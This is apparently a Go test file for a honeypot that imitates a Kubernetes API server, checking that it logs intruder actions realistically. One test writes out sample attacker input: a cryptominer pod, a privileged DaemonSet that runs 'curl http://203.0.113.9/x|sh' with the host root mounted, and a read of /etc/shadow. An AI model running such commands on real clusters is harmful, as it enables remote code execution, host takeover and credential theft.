package k8s

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"go.uber.org/goleak"

	"decnet/decoy"
	"decnet/decoy/control"
	"decnet/decoy/decoytest"
	"decnet/decoy/event"
	"decnet/decoy/services/internal/bait"
	"decnet/decoy/services/internal/servicetest"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

func such(t testing.TB, open bool) control.Identity {
	t.Helper()
	return servicetest.Such(t, decoytest.Identity(), func(h *decoy.Host) bool { return newServer(h).open == open })
}

// kubectl runs the real command line against the port without TLS.
func kubectl(t *testing.T, d *decoytest.Decky, stdin string, args ...string) (string, error) {
	t.Helper()
	return servicetest.Run(t, stdin, "kubectl", append([]string{"--kubeconfig=/dev/null", "--server=http://" + d.Address(8080), "--cache-dir=" + t.TempDir()}, args...)...)
}

// get asks over TLS as curl does.
func get(t *testing.T, d *decoytest.Decky, path string, args ...string) string {
	t.Helper()
	out, err := servicetest.Run(t, "", "curl", append([]string{"-sk", "https://" + d.Address(6443) + path}, args...)...)
	if err != nil {
		t.Errorf("curl: %v", err)
	}
	return out
}

func TestAnonymousUsersAreRefusedAsByKubernetes(t *testing.T) {
	t.Parallel()
	d := decoytest.StartAs(t, such(t, false), "k8s")
	for path, want := range map[string]string{
		"/": `{
  "kind": "Status",
  "apiVersion": "v1",
  "metadata": {},
  "status": "Failure",
  "message": "forbidden: User \"system:anonymous\" cannot get path \"/\"",
  "reason": "Forbidden",
  "details": {},
  "code": 403
}`,
		"/api/v1/namespaces/default/pods": `{
  "kind": "Status",
  "apiVersion": "v1",
  "metadata": {},
  "status": "Failure",
  "message": "pods is forbidden: User \"system:anonymous\" cannot list resource \"pods\" in API group \"\" in the namespace \"default\"",
  "reason": "Forbidden",
  "details": {
    "kind": "pods"
  },
  "code": 403
}`,
		"/healthz": "ok",
	} {
		if got := get(t, d, path); got != want {
			t.Errorf("%s gives\n%s\nwant\n%s", path, got, want)
		}
	}
	servicetest.Contains(t, get(t, d, "/apis/apps/v1/deployments?limit=500"), `deployments.apps is forbidden: User \"system:anonymous\" cannot list resource \"deployments\" in API group \"apps\" at the cluster scope`)
	servicetest.Contains(t, get(t, d, "/version"), `"gitVersion": "`+newServer(d.Host).version.GitVersion+`"`)
	servicetest.Contains(t, get(t, d, "/api", "-H", "Authorization: Bearer guessed"), `"message": "Unauthorized"`, `"code": 401`)
	d.Wait(event.AuthAttempt, decoytest.Has(event.SecretKind, "bearer"), decoytest.Has(event.Secret, "guessed"), decoytest.Has(event.Outcome, event.Rejected))
	d.Wait("request", decoytest.Has("path", "/api/v1/namespaces/default/pods"), decoytest.Has("status", "403"), decoytest.Has(event.DstPort, "6443"))
	servicetest.Contains(t, get(t, d, "/api/v1/secrets", "-H", "Authorization: Bearer "+newServer(d.Host).cluster.token), `"kind": "SecretList"`)
	d.Wait(event.AuthAttempt, decoytest.Has(event.Outcome, event.Accepted))
}

func TestTheCertificateIsTheClustersOwn(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "k8s")
	out, _ := servicetest.Run(t, "", "sh", "-c", "openssl s_client -connect "+d.Address(6443)+" -alpn h2 </dev/null 2>/dev/null | openssl x509 -noout -subject -issuer -ext subjectAltName")
	servicetest.Contains(t, out, "subject=CN = kube-apiserver", "issuer=CN = kubernetes", "DNS:kubernetes.default.svc.cluster.local", "IP Address:10.96.0.1")
	again, err := newServer(d.Host).certificate()
	if err != nil || len(again.Certificate) != 1 {
		t.Errorf("%v", err)
	}
}

func TestKubectlLooksAround(t *testing.T) {
	d := decoytest.Start(t, "k8s")
	app := bait.AppOf(d.Host)
	node := strings.ToLower(d.Host.Hostname)
	for args, wants := range map[string][]string{
		"version":                              {"Server Version: " + newServer(d.Host).version.GitVersion},
		"get pods -A":                          {"NAMESPACE", "NAME", "READY", "STATUS", "RESTARTS", "AGE", "kube-apiserver-" + node, "1/1", "Running", app.Name + "-db-0"},
		"get pods":                             {"No resources found"},
		"get pods -n kube-system -o wide":      {"IP", "NODE", "10.244."},
		"get po " + app.Name + "-db-0 -o yaml": {},
		"get nodes":                            {node, "Ready", "control-plane", newServer(d.Host).version.GitVersion},
		"get ns":                               {"default", "kube-system", app.Name, "Active"},
		"get secrets -A -o yaml":               {base64.StdEncoding.EncodeToString([]byte(app.Secret)), "kubernetes.io/service-account-token", "kubernetes.io/dockerconfigjson"},
		"get svc,deploy,cm -A":                 {"service/kubernetes", "deployment.apps/" + app.Name + "-web", "configmap/kube-root-ca.crt"},
		"api-resources":                        {"pods", "deployments", "apps/v1"},
		"auth can-i create pods":               {"yes"},
		"cluster-info":                         {"is running at"},
		"get pod nope":                         {`Error from server (NotFound): pods "nope" not found`},
		"logs -n " + app.Name + " " + app.Name + "-db-0": {"INFO listening"},
		"get clusterrolebindings":                        {"cluster-admin"},
	} {
		out, err := kubectl(t, d, "", strings.Fields(args)...)
		if err != nil && !strings.Contains(out, "NotFound") && !strings.Contains(args, "db-0 -o yaml") {
			t.Errorf("kubectl %s: %v\n%s", args, err, out)
		}
		servicetest.Contains(t, out, wants...)
	}
}

func TestWhatAnIntruderCreatesIsRecordedAndShown(t *testing.T) {
	d := decoytest.Start(t, "k8s")
	out, err := kubectl(t, d, "", "run", "miner", "--image=evil/xmrig", "--command", "--", "/xmrig", "-o", "pool:3333")
	if err != nil {
		t.Errorf("%v\n%s", err, out)
	}
	servicetest.Contains(t, out, "pod/miner created")
	d.Wait("k8s_change", decoytest.Has("verb", "create"), decoytest.Has("resource", "pods"), decoytest.Has("image", "evil/xmrig"), decoytest.Has(event.Command, "/xmrig -o pool:3333"))
	out, _ = kubectl(t, d, "", "get", "pods")
	servicetest.Contains(t, out, "miner", "1/1", "Running")
	const set = `{"apiVersion":"apps/v1","kind":"DaemonSet","metadata":{"name":"kube-controller"},"spec":{"selector":{"matchLabels":{"a":"b"}},"template":{"metadata":{"labels":{"a":"b"}},"spec":{"hostPID":true,
		"containers":[{"name":"x","image":"alpine","command":["sh","-c","curl http://203.0.113.9/x|sh"],"securityContext":{"privileged":true}}],"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}}}`
	file := filepath.Join(t.TempDir(), "set.json")
	if err := os.WriteFile(file, []byte(set), 0o600); err != nil {
		t.Fatal(err)
	}
	out, err = kubectl(t, d, "", "-n", "kube-system", "apply", "-f", file)
	if err != nil {
		t.Errorf("%v\n%s", err, out)
	}
	d.Wait("k8s_change", decoytest.Has("resource", "daemonsets"), decoytest.Has(event.Command, "sh -c curl http://203.0.113.9/x|sh"), decoytest.Has("privileged", "true"), decoytest.Has("host_pid", "true"), decoytest.Has("host_paths", "/"))
	out, err = kubectl(t, d, "", "exec", "miner", "--", "cat", "/etc/shadow")
	if err == nil {
		t.Error("a command in a pod seems to work")
	}
	servicetest.Contains(t, out, "connection refused")
	d.Wait(event.CommandRun, decoytest.Has(event.Command, "cat /etc/shadow"), decoytest.Has("pod", "miner"))
	out, _ = kubectl(t, d, "", "delete", "pod", "miner", "--wait=false")
	servicetest.Contains(t, out, `pod "miner" deleted`)
	out, _ = kubectl(t, d, "", "get", "pods")
	servicetest.Contains(t, out, "No resources found")
}

func TestAnOpenClusterOverTLS(t *testing.T) {
	d := decoytest.StartAs(t, such(t, true), "k8s")
	out, err := servicetest.Run(t, "", "kubectl", "--kubeconfig=/dev/null", "--server=https://"+d.Address(6443), "--insecure-skip-tls-verify", "--token="+newServer(d.Host).cluster.token, "--cache-dir="+t.TempDir(), "get", "--raw", "/api/v1/namespaces")
	if err != nil || !strings.Contains(out, "kube-system") {
		t.Errorf("%v\n%s", err, out)
	}
	servicetest.Contains(t, get(t, d, "/"), `"paths": [`, `"/apis/apps/v1"`)
	servicetest.Contains(t, get(t, d, "/api/v1/nonsense"), "the server could not find the requested resource")
	if got := get(t, d, "/nonsense"); got != "404 page not found\n" {
		t.Errorf("an unknown path gives %q", got)
	}
	e := d.Wait("request", decoytest.Has("path", "/api/v1/namespaces"))
	if command, _ := e.Get(event.Command); !strings.HasSuffix(command, "HTTP/2.0") {
		t.Errorf("kubectl asks by %q", command)
	}
}

// The scanner has no pattern for the API of today's versions: what names the product is its certificate.
func TestScannerNamesTheProduct(t *testing.T) {
	t.Parallel()
	d := decoytest.StartAs(t, such(t, false), "k8s")
	host, port, err := net.SplitHostPort(d.Address(6443))
	if err != nil {
		t.Fatal(err)
	}
	out, err := servicetest.Run(t, "", "nmap", "-Pn", "-n", "-p", port, "--script", "+ssl-cert,+http-title", host)
	if err != nil {
		t.Errorf("nmap: %v", err)
	}
	servicetest.Contains(t, out, "commonName=kube-apiserver", "Issuer: commonName=kubernetes")
}

func TestDeckiesDifferAndStay(t *testing.T) {
	t.Parallel()
	servicetest.Looks(t, 18, func(h *decoy.Host) string {
		v := newServer(h)
		pods, err := json.Marshal(v.cluster.list("pods", ""))
		if err != nil {
			t.Fatal(err)
		}
		cert, err := v.certificate()
		if err != nil {
			t.Fatal(err)
		}
		return fmt.Sprint(v.version, v.open, string(pods), cert.Certificate)
	})
}

func TestWhatIntrudersCreateIsBounded(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "k8s")
	v := newServer(d.Host)
	for i := range 3 * maxMade {
		v.cluster.keep("pods", "default", object{Metadata: meta{Name: fmt.Sprint(i)}})
	}
	if got := len(v.cluster.list("pods", "default")); got != maxMade {
		t.Errorf("%d pods", got)
	}
	r, err := http.Post("http://"+d.Address(8080)+"/api/v1/namespaces/default/pods", "application/json", io.LimitReader(zeros{}, 1<<20))
	if err != nil {
		t.Fatal(err)
	}
	defer http.DefaultClient.CloseIdleConnections()
	defer r.Body.Close()
	if r.StatusCode != 413 {
		t.Errorf("a large object gives %s", r.Status)
	}
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) { return len(p), nil }

func TestGarbage(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "k8s")
	servicetest.Garbage(t, d, 8080, "GET /", "POST /api/v1/namespaces/default/pods HTTP/1.1\r\nHost: x\r\nContent-Length: 300\r\n\r\n{", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	servicetest.Garbage(t, d, 6443, "\x16\x03\x01\x02\x00\x01")
	servicetest.Recovers(t, func() bool {
		_, err := servicetest.Run(t, "", "curl", "-sfm", "2", "http://"+d.Address(8080)+"/healthz")
		return err == nil
	})
}

func FuzzRequests(f *testing.F) {
	f.Add("GET", "/api/v1/namespaces/default/pods/x/log", `{"spec":{"containers":[{"image":"a"}]}}`)
	f.Add("POST", "/apis/batch/v1/cronjobs", `{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{}]}}}}}}`)
	f.Fuzz(func(t *testing.T, method, path, body string) {
		target, ok := parse(method, path, len(body)%2 == 0)
		if message, d := forbidden(target, ok, path); message == "" || d == nil {
			t.Fatal("no reason")
		}
		if ok && target.kind.name == "" {
			t.Fatalf("%q is %+v", path, target)
		}
		podSpecOf([]byte(body))
		var o object
		if json.Unmarshal([]byte(body), &o) == nil {
			if _, err := json.Marshal(whole(target.kind, o)); err != nil {
				t.Fatal(err)
			}
		}
	})
}

var random = regexp.MustCompile(`^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$`)

func TestObjectsHaveRandomUIDs(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "k8s")
	out, err := kubectl(t, d, "", "get", "pods,ns,secrets", "-A", "-o", `jsonpath={range .items[*]}{.metadata.uid}{"\n"}{end}`)
	uids := strings.Fields(out)
	if err != nil || len(uids) < 5 {
		t.Fatalf("%v\n%s", err, out)
	}
	for _, uid := range uids {
		if !random.MatchString(uid) {
			t.Errorf("an object has the uid %s", uid)
		}
	}
}
